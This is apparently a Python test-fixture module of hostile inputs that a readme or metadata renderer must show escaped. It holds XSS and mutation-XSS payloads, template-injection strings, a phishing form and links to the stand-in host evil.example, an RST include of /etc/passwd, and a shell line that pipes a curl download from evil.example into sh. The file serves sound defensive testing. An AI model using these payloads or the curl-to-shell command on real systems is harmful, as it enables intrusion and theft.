"""Texts that a page must show as they are: attempts to add elements, attributes, scripts or links to it.

`TRICKS` maps the name of a trick to its text, one line each, for every metadata field, reason and name that allows
it. `READMES` maps the Content-Type of a description to one with all tricks of that kind of markup. Each script would
call `alert` or set `window.pwned`; each resource would come from `OUTSIDE`.
"""

from __future__ import annotations

OUTSIDE = "evil.example"

TRICKS = {
    "script": "<script>alert(1)</script>",
    "script in upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script that closes a script": "</script><script>window.pwned=1</script>",
    "script that closes a title": "</title><script>alert(1)</script>",
    "script that closes a textarea": "</textarea></select></template><script>alert(1)</script>",
    "event": "<img src=x onerror=alert(1)>",
    "event with a slash": "<svg/onload=alert(1)>",
    "event on focus": "<input autofocus onfocus=alert(1)>",
    "event of details": "<details open ontoggle=alert(1)>",
    "attribute in double quotes": '" onmouseover="alert(1)" x="',
    "attribute in single quotes": "' onmouseover='alert(1)' x='",
    "attribute without quotes": " onmouseover=alert(1) ",
    "attribute with backticks": "` onmouseover=alert(1) `",
    "end of a tag": '"><script>alert(1)</script>',
    "frame": '<iframe src="javascript:alert(1)"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="//evil.example/x.swf"></object><embed src="//evil.example/x">',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style": "<style>@import url(//evil.example/x.css);body{display:none}</style>",
    "style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style attribute": '<p style="position:fixed;inset:0;background:url(//evil.example/x)">cover</p>',
    "form": '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
    "form of this index": '<form method="post" action="/logout"><button formaction="/admin/">x</button></form>',
    "link": '<a href="javascript:alert(1)">click</a>',
    "link with a tab": '<a href="java\tscript:alert(1)">click</a>',
    "link with an entity": '<a href="&#106;avascript:alert(1)">click</a>',
    "link to data": '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "link alone": "javascript:alert(1)",
    "link in upper case": "JaVaScRiPt:alert(1)//https://",
    "data alone": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript alone": "vbscript:msgbox(1)",
    "host alone": "//evil.example/",
    "link with a credential": "https://user:secret@evil.example/",
    "link with quotes": 'https://evil.example/"onmouseover="alert(1)',
    "comment": "<!--><script>alert(1)</script-->",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "mathml": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "svg with a style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template of a server": "{{ 7 * 7 }}{% print(1) %}${7*7}<%= 7*7 %>#{7*7}",
    "template of a server with attributes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot; &#39; &#60;script&#62;",
    "half an entity": "&lt &#x3c;script&#x3e &NotEqualTilde; &",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "wide characters": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "text from right to left": "safe \u202egpj.exe\u202c \u2066x\u2069",
    "invisible characters": "a\u200bb\u00adc\ufeffd",
    "piled accents": "Z" + "\u0351\u036b\u0343\u036a" * 40,
    "long word": "x" * 450,
    "id of the page": '<a id="content" name="q">x</a><b id="q" class="error hidden">x</b>',
    "markdown link": "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "rst link": "`click <javascript:alert(1)>`_ |x|_",
    "separators of lines": "a\u2028b\u2029c\x85d",
    "backslashes": "\\u003cscript\\u003e \\x3cscript\\x3e \\",
    "shell": "x; curl https://evil.example/ | sh $(id) `id` && 'x",
    "terminal": "\\x1b]0;title\\x07",
}

_ALL = "\n\n".join(TRICKS.values())
_INDENTED = "\n".join(f"   {line}" for line in _ALL.splitlines())

MARKDOWN = f"""# Title with <script>alert(1)</script>

[click](javascript:alert(1)) [tab](java&#09;script:alert(1)) [data](data:text/html,x) <javascript:alert(1)>
[quote](https://evil.example/ "title\\" onmouseover=alert(1)") [host](//evil.example/) [own](/logout)
[up](../../admin/)
[reference][1] ![pixel](https://evil.example/pixel.png) ![own](/account/) ![data](data:image/png;base64,iVBORw0KGgo=)
[![badge](https://evil.example/badge.svg "onload")](https://evil.example/build) ![](https://evil.example/no-alt.png)

[1]: javascript:alert(1)

```python" onmouseover="alert(1)
import os
```

```<script>
alert(1)
```

- [x] done <input type="text" name="password" autofocus onfocus="alert(1)">

| a | b |
| --- | :---: |
| <script>alert(1)</script> | <td onclick="alert(1)">x |

<picture><source srcset="https://evil.example/source.png">
<img src="https://evil.example/fallback.png" alt="p"></picture>
<img srcset="https://evil.example/set.png 2x" src="https://evil.example/set.png" alt="set" style="position:fixed">
<video src="https://evil.example/v.mp4" autoplay poster="https://evil.example/p.png"></video>
<div id="content" class="error" style="position: fixed" onclick="alert(1)">in <b id="q">the page's name</b></div>
<h1 id="__proto__" align="center">Centred</h1></main></body></html>

{_ALL}

Note[^1].

[^1]: Here <img src=x onerror=alert(1)>.
"""

RST = f"""Title
=====

`click <javascript:alert(1)>`__ `data <data:text/html,x>`__ `host <//evil.example/>`__ `own </logout>`__

.. image:: https://evil.example/pixel.png
   :target: javascript:alert(1)
   :alt: "><script>alert(1)</script>

.. image:: https://evil.example/drawing.svg

.. container:: error hidden

   In a class of the page.

.. code:: python

   import os  # <script>alert(1)</script>

.. class:: error

A paragraph with <script>alert(1)</script> and :sup:`<b onclick=alert(1)>x</b>`.

::

{_INDENTED}
"""

RST_OUTSIDE = """Title
=====

.. include:: /etc/passwd

.. raw:: html

   <script>alert(1)</script>
"""

READMES = {
    "text/markdown": MARKDOWN,
    "text/markdown; charset=UTF-8; variant=CommonMark": MARKDOWN,
    "text/x-rst": RST,
    "text/x-rst; charset=UTF-8": RST_OUTSIDE,
    "text/plain": _ALL,
    "": MARKDOWN,
    'text/html"><script>alert(1)</script>': MARKDOWN,
}
